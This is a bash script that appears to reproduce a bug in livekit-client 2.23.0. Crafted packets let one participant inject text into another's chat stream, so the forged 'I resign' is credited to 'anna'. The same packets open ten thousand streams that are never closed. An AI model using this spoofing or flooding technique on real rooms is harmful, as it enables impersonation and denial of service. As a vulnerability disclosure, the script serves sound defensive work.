#!/usr/bin/env bash
# livekit-client 2.23.0 (npm, pinned). Needs Node.js 20. No server: packets are given to the library as the SFU hands them on,
# each with the identity of who really sent it.
#
# Expected: a text stream (`lk.chat` of sendText and streamText) is its sender's: what others send under its id is not part of it,
#   and a stream of somebody else that has the same id is a stream of its own.
# Seen: streams are told apart by their id alone, which everybody in the room can read in the header. Chunks and trailer of another
#   participant are taken into the text, and the handler is told that the first one wrote it. A second header with an id that is
#   open throws out of the packet's handling (an unhandled rejection in a page). Any number stays open. The limit for what a
#   packed stream unpacks to is five gigabytes unless one is set (`dataStream.maxPayloadByteLength`).
set -euo pipefail
place=$(mktemp -d); trap 'rm -rf "$place"' EXIT
cd "$place"
npm init -y > /dev/null && npm install --no-audit --no-fund --silent livekit-client@2.23.0

cat > play.mjs <<'END'
import { Room, setLogLevel } from 'livekit-client';
setLogLevel('silent');

const room = new Room();
const texts = [];
room.registerTextStreamHandler('lk.chat', async (reader, { identity }) => {
  const text = await reader.readAll().catch((error) => `(${error.message})`);
  texts.push(`${identity}: ${text}`);
});
const streams = room.incomingDataStreamManager;
streams.setConnected(true);
const give = (participantIdentity, kind, value) => streams.handleDataStreamPacket({ participantIdentity, value: { case: kind, value } }, 0);
const header = (identity, streamId) => give(identity, 'streamHeader', {
  streamId, topic: 'lk.chat', timestamp: 0n, attributes: {}, compression: 0, contentHeader: { case: 'textHeader', value: { attachedStreamIds: [] } },
});
const chunk = (identity, streamId, text) => give(identity, 'streamChunk', {
  streamId, chunkIndex: 0n, content: new TextEncoder().encode(text), version: 0,
});
const trailer = (identity, streamId) => give(identity, 'streamTrailer', { streamId, reason: '', attributes: {} });

header('anna', '1');
chunk('mallory', '1', 'I resign');
trailer('mallory', '1');
await new Promise((done) => setTimeout(done, 100));

header('anna', '2');
let said = 'nothing';
try { header('mallory', '2'); } catch (error) { said = error.message; }
for (let id = 0; id < 10_000; id += 1) header('mallory', `open ${id}`);
const open = streams.textStreamControllers.size;

console.log(texts, '\na second header:', said, '\nopen streams:', open, '\nmost bytes:', streams.maxPayloadByteLength);
const same = texts.join() === 'anna: I resign' && said.includes('already in progress') && open === 10_001 && streams.maxPayloadByteLength === 5e9;
console.log(same ? 'as seen' : 'CHANGED: this is not what was seen');
process.exit(same ? 0 : 1);
END
node play.mjs
